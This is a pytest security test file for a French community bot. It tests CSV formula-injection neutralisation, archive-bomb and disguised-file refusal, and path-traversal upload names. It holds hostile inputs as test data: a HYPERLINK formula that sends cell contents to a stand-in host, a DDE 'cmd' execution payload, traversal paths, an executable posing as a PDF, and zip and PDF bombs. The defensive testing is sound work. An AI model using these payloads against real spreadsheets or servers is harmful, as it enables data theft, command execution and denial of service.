"""Files: formula injection in every CSV export, archive bombs, lying and oversized files,
path traversal in uploaded file names."""

from __future__ import annotations

import csv
import io
import re
import time
import tracemalloc
import uuid
from collections.abc import AsyncIterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.csv_safety import FORMULA_PREFIXES, safe_cell
from bot.harness import BotHarness
from db.engine import Database
from tests.security.hostile_files import docx, lying_docx, pdf_bomb
from tests.security.world import changed_tables, fingerprint, settle

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?"&A1,"Cliquez")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "=1",
]
PLAIN_NUMBERS = ["-0.57", "+33556123401", "44.84", "-12"]
NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?(e[+-]?\d+)?")


def formula_cells(csv_text: str) -> list[str]:
    """Cells a spreadsheet would evaluate (numbers such as -0.57 are data)."""
    bad = []
    for row in csv.reader(io.StringIO(csv_text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES) and not NUMBER.fullmatch(cell):
                bad.append(cell)
    return bad


# ---- CSV formula injection ----------------------------------------------------------------


@given(st.text(max_size=40))
@settings(max_examples=300, deadline=None)
def test_safe_cell_never_leaves_a_formula(text: str) -> None:
    cell = safe_cell(text)
    assert (
        not cell.startswith(FORMULA_PREFIXES)
        or cell in PLAIN_NUMBERS
        or cell.lstrip("+-").replace(".", "").replace(",", "").isdigit()
    )
    assert cell.removeprefix("'") == text or cell == text


def test_plain_numbers_stay_numbers() -> None:
    for number in PLAIN_NUMBERS:
        assert safe_cell(number) == number


def test_directory_export_neutralizes_formulas_and_round_trips() -> None:
    import json

    from bot.demo_network import SAMPLE_DIRECTORY, structure_from_standard
    from db.directory.standard import export_csv, parse_standard_file

    rows = json.loads(SAMPLE_DIRECTORY.read_text(encoding="utf-8"))[: len(HOSTILE)]
    structures = []
    for row, hostile in zip(rows, HOSTILE, strict=False):
        structure = structure_from_standard(row, guild_id=1)
        structure.nom = hostile + " " + structure.nom
        structure.adresse = hostile
        structure.presentation_resume = hostile
        structures.append(structure)
    exported = export_csv(structures).decode("utf-8")
    assert not formula_cells(exported), formula_cells(exported)
    parsed = parse_standard_file(exported.encode(), "annuaire.csv", today=datetime.now(UTC).date())
    names = {row.get("nom") for row in parsed.rows}
    # Importing the export gives the typed text back, apostrophe removed.
    assert {s.nom.strip() for s in structures} <= names, names  # (import trims spaces)


def test_charter_tracking_export_neutralizes_nicknames() -> None:
    from cogs.charter.tracking import build_tracking, tracking_csv

    members = {index: name for index, name in enumerate(HOSTILE, start=1)}
    tracking = build_tracking(
        version_label="=v2",
        members=members,
        member_structure={1: 10, 2: 11},
        structure_names={10: "=CCAS", 11: "@Médiathèque"},
        accepted_at={1: datetime(2026, 1, 5, tzinfo=UTC)},
    )
    exported = tracking_csv(tracking)
    assert "HYPERLINK" in exported  # the names are there...
    assert not formula_cells(exported), formula_cells(exported)  # ...but inert


def test_observatory_export_neutralizes_typed_labels() -> None:
    """Area labels come from the directory (neighbourhoods typed by referents)."""
    from cogs.observatory.export import to_csv

    rows = [("couverture", "lieux", hostile, "=service", 3, None) for hostile in HOSTILE]
    exported = to_csv(rows).decode("utf-8-sig")
    assert "HYPERLINK" in exported
    assert not formula_cells(exported), formula_cells(exported)


async def test_audit_export_neutralizes_targets(database: Database) -> None:
    from cogs.audit.queries import AuditFilter, export_csv
    from db.models import AuditEntry

    async with database.transaction() as session:
        for index, hostile in enumerate(HOSTILE):
            session.add(
                AuditEntry(
                    guild_id=7,
                    actor_id=index + 1,
                    action="=announcement.publish" if index == 0 else "events.plan",
                    target=hostile,
                    structure_id=None,
                    details={"title": hostile},
                    at=datetime(2026, 3, 1, 9, index, tzinfo=UTC),
                )
            )
    async with database.session() as session:
        exported, count = await export_csv(session, 7, AuditFilter())
    assert count == len(HOSTILE) and "HYPERLINK" in exported
    assert not formula_cells(exported), formula_cells(exported)


# ---- archive bombs and lying files --------------------------------------------------------


# Every reader of uploaded documents: name -> (read(filename, data) -> text, its error type).
def _charter_reader():  # type: ignore[no-untyped-def]
    from cogs.charter.errors import CharterError
    from cogs.charter.extract import extract_text

    return extract_text, CharterError


def _library_reader():  # type: ignore[no-untyped-def]
    from bot.library.errors import LibraryError
    from bot.library.extraction import check_and_extract

    return (lambda filename, data: check_and_extract(data, filename).text), LibraryError


READERS = {"charter": _charter_reader, "library": _library_reader}


@pytest.mark.parametrize("reader", sorted(READERS))
@pytest.mark.parametrize(
    ("filename", "build", "refused"),
    [
        ("charte.docx", lambda: docx(200 * 1024 * 1024), True),
        ("charte.docx", lying_docx, True),
        ("charte.pdf", lambda: pdf_bomb(400 * 1024 * 1024), None),
        ("charte.pdf", lambda: b"MZ\x90\x00" + b"\x00" * 500, True),  # lying: an .exe
        ("charte.docx", lambda: b"%PDF-1.4 not a zip", True),
        ("charte.txt", lambda: b"\xff\xfe\x00\x00" * 100, None),
    ],
    ids=["docx-bomb", "docx-lying-sizes", "pdf-bomb", "exe-as-pdf", "pdf-as-docx", "binary-txt"],
)
def test_hostile_documents_are_refused_quickly_in_bounded_memory(
    reader: str,
    filename: str,
    build,  # type: ignore[no-untyped-def]
    refused: bool | None,
) -> None:
    """``refused``: True must be refused; None may give bounded text or be refused."""
    extract, error_type = READERS[reader]()
    data = build()
    assert len(data) < 10 * 1024 * 1024, "the hostile file itself must be small"
    tracemalloc.start()
    started = time.perf_counter()
    try:
        outcome = extract(filename, data)
    except error_type as exc:
        outcome = exc
    finally:
        elapsed = time.perf_counter() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    assert elapsed < 10, f"took {elapsed:.1f} s"
    # pypdf inflates a stream up to 75 MB (pypdf.filters.ZLIB_MAX_OUTPUT_LENGTH) and may
    # hold two copies; zip members are checked before anything is inflated.
    assert peak < 200 * 1024 * 1024, f"peak memory {peak // (1024 * 1024)} MiB"
    if refused:
        assert isinstance(outcome, error_type), outcome
    elif isinstance(outcome, str):
        assert len(outcome) <= 1_000_000  # whatever text came out is bounded
    else:
        assert isinstance(outcome, error_type)
    if isinstance(outcome, error_type):
        from bot.i18n import t

        message = t(outcome.key, "fr", **getattr(outcome, "kwargs", {}))
        assert message != outcome.key and len(message) > 15, message


# ---- through the bot: traversal names, oversized and lying files, bombs -----------------


@pytest.fixture
async def h(tmp_path: Path) -> AsyncIterator[BotHarness]:
    async with BotHarness(tmp_path / "data") as harness:
        yield harness


def _file_commands(h: BotHarness) -> list[tuple[str, str, dict]]:  # type: ignore[type-arg]
    """(command, attachment option, other options) for every command that takes a file."""
    from tests.security.commands import CASES

    found = []
    for case in CASES:
        if case.access != "coordinator" and case.command not in ("newsletter proposer",):
            continue
        found.append(case)
    return found  # type: ignore[return-value]


async def test_traversal_names_write_nothing_outside_the_data_directory(
    h: BotHarness, tmp_path: Path
) -> None:
    """Every command with a file option, given "../../…" and absolute names: the bot stores
    content by hash only; no file with the name appears anywhere in the test's tree, /tmp
    or the working directory."""
    from tests.security.fuzz import ATTACHMENT, leaves

    marker = f"aig-traversal-{uuid.uuid4().hex[:8]}"
    names = [f"../../../../{marker}.pdf", f"/tmp/{marker}.png", f"..\\..\\{marker}.csv"]
    commands = [leaf for leaf in leaves(h) if any(o["type"] == ATTACHMENT for o in leaf.options)]
    assert len(commands) >= 4, [leaf.path for leaf in commands]
    from tests.security.commands import CASES

    options_for = {case.command: case.options for case in CASES}
    for leaf in commands:
        attachment = next(o["name"] for o in leaf.options if o["type"] == ATTACHMENT)
        base = await options_for[leaf.path](h) if leaf.path in options_for else {}
        base = {k: v for k, v in base.items() if not isinstance(v, tuple)}
        for name in names:
            data = (
                b"%PDF-1.4\n%%EOF\n" if name.endswith(".pdf") else b"\x89PNG\r\n\x1a\n" + b"\0" * 40
            )
            result = await h.slash(
                "coordinateur",
                leaf.path,
                options=base,
                attachments={attachment: (name, data, "application/octet-stream")},
            )
            assert "erreur inattendue" not in result.text, (leaf.path, result.text)
    await settle(h)
    roots = [tmp_path.parent.parent, Path("/tmp"), Path.cwd()]
    leaked = [str(p) for root in roots for p in root.rglob(f"{marker}*")]
    assert not leaked, leaked
    data_dir = tmp_path / "data"
    for path in data_dir.rglob("*"):
        assert marker not in path.name, path


async def test_oversized_and_lying_uploads_are_refused_and_change_nothing(h: BotHarness) -> None:
    assert h.bot is not None
    big = b"%PDF-1.4\n" + b"0" * (26 * 1024 * 1024)
    cases = [
        ("charte publier", "fichier", ("charte.pdf", big, "application/pdf"), {"version": "v9"}),
        (
            "charte publier",
            "fichier",
            ("charte.docx", docx(200 * 1024 * 1024), "application/octet-stream"),
            {"version": "v9"},
        ),
        (
            "charte publier",
            "fichier",
            ("charte.pdf", b"MZ\x90\x00" * 100, "application/pdf"),
            {"version": "v9"},
        ),
        (
            "annuaire importer",
            "fichier",
            ("annuaire.csv", b"MZ\x90\x00\x03" * 1000, "text/csv"),
            {},
        ),
        ("annuaire importer", "fichier", ("annuaire.json", big, "application/json"), {}),
        (
            "newsletter proposer",
            "image",
            ("photo.png", b"<html><script>alert(1)</script></html>", "image/png"),
            {},
        ),
    ]
    for command, option, attachment, options in cases:
        await settle(h)
        before = await fingerprint(h.bot.db)
        errors = h.bot.errors_seen
        result = await h.slash(
            "coordinateur", command, options=options, attachments={option: attachment}
        )
        label = f"/{command} {attachment[0]} ({len(attachment[1])} octets)"
        if result.modal is not None:  # the file is checked once the form is filled in
            result = await h.emu.submit_modal(
                h.guild_id,
                h.person("coordinateur"),
                fields={"Titre": "Atelier", "Texte": "Mardi 14h.", "Lien (facultatif)": ""},
            )
        assert not result.error, (label, result.error)
        assert h.bot.errors_seen == errors and "erreur inattendue" not in result.text, label
        assert result.modal is None, f"{label}: accepted (a form opened)"
        assert result.ephemeral, label
        changed = changed_tables(before, await fingerprint(h.bot.db))
        assert not changed, f"{label}: refused but changed {changed}"
